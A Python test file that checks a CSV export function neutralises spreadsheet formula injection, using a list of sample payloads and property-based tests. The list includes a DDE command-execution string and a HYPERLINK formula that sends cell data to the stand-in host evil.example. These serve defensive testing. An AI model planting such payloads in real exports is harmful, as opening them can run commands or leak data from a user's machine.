"""Cells of strangers in CSV that a spreadsheet opens: OWASP's CSV injection."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

pytest.importorskip("uvicorn")
from reread.apps.serve.spreadsheets import csv_of, harmless

MARKS = "=+-@\t\r\n＝＋－＠"
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
DANGEROUS = [
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "＝1+1",
]


def read(written: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.decode(), newline=""), strict=True))


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert read(csv_of([[text]])) == [[f"'{text}"]]
    assert csv_of([[text]]).startswith(b"\"'")


@given(TEXTS)
def test_no_text_begins_like_a_formula_and_others_are_as_they_were(text: str) -> None:
    ((cell,),) = read(csv_of([[text]]))
    assert not cell.startswith(tuple(MARKS))
    assert not cell.lstrip().startswith(tuple(MARKS))
    assert cell in {text, f"'{text}"}
    assert (cell == text) == (not text.lstrip().startswith(tuple("=+-@＝＋－＠")) and text[:1] not in set("\t\r\n"))


@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1))
def test_cells_stay_cells_whatever_they_hold(rows: list[tuple[str, str]]) -> None:
    assert read(csv_of(rows)) == [[*map(harmless, row)] for row in rows]


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-1.5, "-1.5"), (True, "True"), (None, ""), (["=a", "b"], '["=a", "b"]'), ({"-": 1}, '{"-": 1}')],
)
def test_numbers_of_ours_stay_numbers(value: Any, cell: str) -> None:
    assert read(csv_of([[value, "x"]])) == [[cell, "x"]]
